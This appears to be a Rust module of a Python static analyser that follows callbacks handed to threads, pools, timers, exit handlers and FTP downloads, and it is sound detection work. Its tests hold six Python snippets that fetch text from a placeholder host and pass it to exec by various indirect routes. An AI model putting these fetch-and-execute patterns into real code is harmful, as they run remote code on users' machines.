//! Functions that are handed to something that runs them: threads, pools, timers, exit handlers, downloads.

use ruff_text_size::TextRange;

use crate::interpreter::{Arguments, Interpreter};
use crate::value::{Data, Value, union};

/// What runs the functions it is given. A name that ends in a dot stands for all below it.
const RUNNERS: [&str; 26] = [
    "threading.",
    "multiprocessing.",
    "concurrent.",
    "asyncio.",
    "atexit.",
    "signal.",
    "thread.",
    "sched.",
    "timeit.",
    "gevent.",
    "eventlet.",
    "trio.",
    "anyio.",
    "tkinter.",
    "schedule.",
    "apscheduler.",
    "joblib.",
    "sys.settrace",
    "sys.setprofile",
    "sys.addaudithook",
    "functools.reduce",
    "itertools.",
    "weakref.finalize",
    "contextlib.ExitStack",
    "map",
    "filter",
];

/// Methods that give what the function gives, now or later, and where the function stands among the arguments.
const RESULTS: [(&str, usize); 7] = [
    ("submit", 0),
    ("apply", 0),
    ("apply_async", 0),
    ("to_thread", 0),
    ("run_in_executor", 1),
    ("spawn", 0),
    ("run_sync", 0),
];

impl<'a> Interpreter<'a, '_> {
    /// Runs what is given to a thread, a timer, an exit handler, a pool, a map. Gives what a pool would give back.
    pub(crate) fn run_callbacks(&mut self, name: &str, arguments: &Arguments<'a>) -> Option<Value<'a>> {
        let plain =
            matches!(name, "sorted" | "min" | "max" | "reduce" | "next" | "iter" | "exec" | "list" | "any" | "all");
        if !plain && !RUNNERS.iter().any(|runner| name.starts_with(runner)) {
            return None;
        }
        for value in arguments.values() {
            // A function of another member.
            if let Data::Name(id, 0) = value.data {
                self.note_called(id);
            }
        }
        // Names too, where nothing else calls them: `Thread(target=os.system)`. `map` and its kin call what they are given.
        let calls = plain || matches!(name, "map" | "filter" | "functools.reduce") || name.starts_with("itertools.");
        let last = name.rsplit('.').next().unwrap_or(name);
        let result = RESULTS.iter().find(|(method, at)| {
            *method == last && arguments.positional.get(*at).is_some_and(|value| self.is_callable(value, calls))
        });
        if let Some((_, at)) = result {
            let callee = arguments.positional[*at].clone();
            let mut given = Arguments { positional: arguments.positional[at + 1..].to_vec(), ..arguments.clone() };
            if let Some(items) = given.keyword("args").cloned().and_then(|items| self.iterate(&items)) {
                given.positional.extend(items);
            }
            return Some(self.invoke(&callee, given, TextRange::default(), None));
        }
        let callables: Vec<_> = arguments.values().filter(|value| self.is_callable(value, calls)).cloned().collect();
        if callables.is_empty() {
            return None;
        }
        let threads = ["threading.", "multiprocessing.", "thread."].iter().any(|runner| name.starts_with(runner));
        let mut given = Arguments::default();
        if let Some(items) = arguments.keyword("args").cloned().or_else(|| arguments.get(1, "args").cloned()) {
            match self.iterate(&items) {
                Some(items) => given.positional = items,
                None => given.open = self.origin_of(&items),
            }
        } else if !threads && !plain && !calls {
            // `atexit.register(f, x)`, `loop.call_soon(f, x)`: what follows the function is what it is given.
            let at =
                arguments.positional.iter().position(|value| self.is_callable(value, calls)).map_or(0, |at| at + 1);
            given.positional = arguments.positional.get(at..).unwrap_or_default().to_vec();
        }
        if !threads {
            // `map(f, xs)`: what else is given reaches the function.
            let mut origin = None;
            for value in arguments.values().filter(|value| !self.is_callable(value, calls)) {
                origin = union(&origin, &self.origin_of(value));
            }
            given.open = union(&given.open, &origin);
        }
        for callable in callables {
            self.invoke(&callable, given.clone(), TextRange::default(), None);
        }
        None
    }

    fn is_callable(&self, value: &Value<'a>, plain: bool) -> bool {
        match value.data {
            Data::Function(_) | Data::Bound(_) => true,
            Data::Name(id, 0) => !plain && !self.names.behaviours(id).is_empty(),
            _ => false,
        }
    }

    /// `ftp.retrbinary("RETR x", parts.append)`: what arrives is handed over piece by piece.
    pub(crate) fn hand_over(&mut self, arguments: &Arguments<'a>, arrived: &crate::value::Origin) {
        let callables: Vec<_> = arguments
            .values()
            .filter(|value| match value.data {
                Data::Function(_) | Data::Bound(_) => true,
                Data::Name(id, call) => call != 0 && self.names.text(id).ends_with(".write"),
                _ => false,
            })
            .take(4)
            .cloned()
            .collect();
        for callable in callables {
            self.refilled.extend(self.behind(&callable));
            let given = Arguments::of(vec![Value::from(Data::Unknown, arrived.clone())]);
            self.invoke(&callable, given, TextRange::default(), None);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::{
        Role,
        tests::{analysed, flow},
    };

    #[test]
    fn what_a_pool_or_a_queue_hands_on_is_followed() {
        for source in [
            "from concurrent.futures import ThreadPoolExecutor as P\nimport requests\nwith P() as p:\n \
             f = p.submit(requests.get, 'https://host.invalid')\n exec(f.result().text)\n",
            "import queue, requests\nq = queue.Queue()\ndef a():\n q.put(requests.get('https://host.invalid').text)\n\
             def b():\n exec(q.get())\na()\nb()\n",
            "import ftplib\nlines = []\nftplib.FTP('host.invalid').retrlines('RETR a', lines.append)\n\
             exec('\\n'.join(lines))\n",
            "import asyncio, requests\nasync def m():\n r = await asyncio.to_thread(requests.get, 'https://host.invalid')\n \
             exec(r.text)\nasyncio.run(m())\n",
            "import atexit, requests\natexit.register(exec, requests.get('https://host.invalid').text)\n",
            "import threading, requests\nthreading.Thread(target=exec, args=(requests.get('https://host.invalid').text,)).start()\n",
        ] {
            flow(&analysed(Role::Init, source), "network.fetch", "code.exec");
        }
    }
}
